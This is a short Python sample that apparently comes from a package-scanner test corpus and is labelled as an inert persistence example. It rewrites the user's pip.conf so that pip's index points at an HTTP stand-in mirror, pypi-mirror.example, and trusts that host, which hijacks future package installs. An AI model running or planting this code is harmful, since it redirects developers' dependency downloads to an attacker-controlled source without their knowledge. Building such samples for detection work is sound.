# pkgguard corpus 506 (persistence), modelled on [developer-persistence]; inert, never run.
import configparser
import os

conf_path = os.path.expanduser("~/.config/pip/pip.conf")
os.makedirs(os.path.dirname(conf_path), exist_ok=True)
conf = configparser.ConfigParser()
conf.read(conf_path)
if not conf.has_section("global"):
    conf.add_section("global")
conf.set("global", "index-url", "http://pypi-mirror.example/simple")
conf.set("global", "trusted-host", "pypi-mirror.example")
with open(conf_path, "w") as fh:
    conf.write(fh)
